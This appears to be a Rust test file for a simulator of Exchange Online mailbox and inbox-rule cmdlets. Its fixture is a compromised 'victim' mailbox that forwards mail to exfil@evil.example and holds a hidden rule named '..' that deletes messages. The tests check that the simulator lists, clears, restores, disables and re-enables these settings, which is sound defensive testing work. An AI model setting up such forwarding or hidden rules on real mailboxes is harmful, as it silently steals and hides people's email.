//! The victim's own mailbox: forwarding on `Get-Mailbox`/`Set-Mailbox`, and
//! `Get-InboxRule` (hidden rules with `-IncludeHidden`), `Disable-InboxRule`, `Enable-InboxRule`.

use serde_json::{json, Value};

use crate::common::{cmdlet, field, fixture, TestSim};

const VICTIM_TENANT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../events/victim-tenant.json");
const JOHN: &str = "john.smith@acmecorp.com";

async fn victim() -> TestSim {
    TestSim::start(fixture(VICTIM_TENANT)).await
}

async fn rules(sim: &TestSim, include_hidden: bool) -> Vec<Value> {
    let mut parameters = json!({ "Mailbox": JOHN });
    if include_hidden {
        parameters["IncludeHidden"] = json!(true);
    }
    sim.exo_all(&cmdlet("Get-InboxRule", parameters)).await.0
}

async fn forwarding(sim: &TestSim) -> Value {
    let answer = sim
        .exo(&cmdlet("Get-Mailbox", json!({ "Identity": JOHN })))
        .await;
    assert_eq!(answer.status, 200);
    answer.values()[0].clone()
}

#[tokio::test]
async fn get_mailbox_shows_forwarding_as_exchange_prints_it() {
    let sim = victim().await;
    let m = forwarding(&sim).await;
    assert_eq!(m["ForwardingSmtpAddress"], "smtp:exfil@evil.example");
    assert_eq!(m["ForwardingAddress"], Value::Null);
    assert_eq!(m["DeliverToMailboxAndForward"], true);
    let jane = sim
        .exo(&cmdlet(
            "Get-Mailbox",
            json!({ "Identity": "ceo@acmecorp.com" }),
        ))
        .await;
    assert_eq!(jane.values()[0]["ForwardingSmtpAddress"], Value::Null);
    assert_eq!(jane.values()[0]["DeliverToMailboxAndForward"], false);
}

#[tokio::test]
async fn set_mailbox_clears_forwarding_with_nulls_and_sets_it_back() {
    let sim = victim().await;
    let before = sim.handle.snapshot().mailboxes;
    let clear = json!({ "Identity": JOHN, "ForwardingSmtpAddress": null, "ForwardingAddress": null, "DeliverToMailboxAndForward": false });
    let answer = sim.exo(&cmdlet("Set-Mailbox", clear.clone())).await;
    assert_eq!(answer.status, 200);
    assert!(answer.warnings().is_empty());
    let m = forwarding(&sim).await;
    assert_eq!(m["ForwardingSmtpAddress"], Value::Null);
    assert_eq!(m["DeliverToMailboxAndForward"], false);
    // Clearing again changes nothing: Exchange's warning.
    let again = sim.exo(&cmdlet("Set-Mailbox", clear)).await;
    assert!(
        again.warnings()[0].contains("no settings of"),
        "{:?}",
        again.warnings()
    );

    let restore = json!({ "Identity": JOHN, "ForwardingSmtpAddress": "smtp:exfil@evil.example", "DeliverToMailboxAndForward": true });
    assert_eq!(sim.exo(&cmdlet("Set-Mailbox", restore)).await.status, 200);
    assert_eq!(sim.handle.snapshot().mailboxes, before);

    let bad = json!({ "Identity": JOHN, "ForwardingSmtpAddress": "nobody" });
    let refused = sim.exo(&cmdlet("Set-Mailbox", bad)).await;
    assert_eq!(refused.status, 400);
    assert!(refused.exo_detail().contains("ForwardingSmtpAddress"));
}

#[tokio::test]
async fn hidden_rules_are_listed_only_with_include_hidden() {
    let sim = victim().await;
    let shown = rules(&sim, false).await;
    assert_eq!(
        field(&shown, "Name"),
        ["Newsletters", "Invoices", "Old forward"]
    );
    let all = rules(&sim, true).await;
    assert_eq!(
        field(&all, "Name"),
        ["Newsletters", "Invoices", "..", "Old forward"]
    );
    let invoices = &all[1];
    assert_eq!(invoices["Enabled"], true);
    assert_eq!(invoices["Priority"], 2);
    assert_eq!(
        invoices["ForwardTo"],
        json!(["\"exfil@evil.example\" [SMTP:exfil@evil.example]"])
    );
    let rule_id = invoices["RuleIdentity"].as_str().unwrap();
    assert_eq!(invoices["Identity"], format!("john.smith\\{rule_id}"));
    assert!(invoices["Description"]
        .as_str()
        .unwrap()
        .contains("forward the message to"));
    assert_eq!(all[2]["DeleteMessage"], true);
    assert_eq!(all[0]["MoveToFolder"], "Newsletters");
    assert_eq!(all[0]["ForwardTo"], Value::Null);
}

#[tokio::test]
async fn a_disabled_rule_keeps_its_definition_and_enable_brings_it_back() {
    let sim = victim().await;
    let before = sim.handle.snapshot().mailboxes;
    let all = rules(&sim, true).await;
    let hidden = all[2]["Identity"].as_str().unwrap().to_string();
    let disable = json!({ "Identity": hidden, "Confirm": false });
    let answer = sim.exo(&cmdlet("Disable-InboxRule", disable.clone())).await;
    assert_eq!(answer.status, 200, "{:?}", answer.body);
    let after = rules(&sim, true).await;
    assert_eq!(after.len(), 4, "disabled, not deleted");
    assert_eq!(after[2]["Enabled"], false);
    assert_eq!(after[2]["DeleteMessage"], true);
    let again = sim.exo(&cmdlet("Disable-InboxRule", disable)).await;
    assert!(again.warnings()[0].contains("no settings of"));

    // By name with -Mailbox, as an admin types it.
    let enable = json!({ "Identity": "..", "Mailbox": JOHN, "Confirm": false });
    assert_eq!(
        sim.exo(&cmdlet("Enable-InboxRule", enable)).await.status,
        200
    );
    assert_eq!(sim.handle.snapshot().mailboxes, before);

    let missing = json!({ "Identity": "nope", "Mailbox": JOHN });
    let answer = sim.exo(&cmdlet("Disable-InboxRule", missing)).await;
    assert_eq!(answer.status, 500);
    assert!(answer.exo_detail().contains("couldn't be found"));
}

#[tokio::test]
async fn rule_changes_on_a_failing_mailbox_are_refused() {
    let mut tenant = fixture(VICTIM_TENANT);
    tenant.sim.fail_mailboxes = vec![JOHN.to_string()];
    let sim = TestSim::start(tenant).await;
    let disable = json!({ "Identity": "Invoices", "Mailbox": JOHN });
    let answer = sim.exo(&cmdlet("Disable-InboxRule", disable)).await;
    assert_ne!(answer.status, 200);
    assert_eq!(rules(&sim, false).await[1]["Enabled"], true);
}
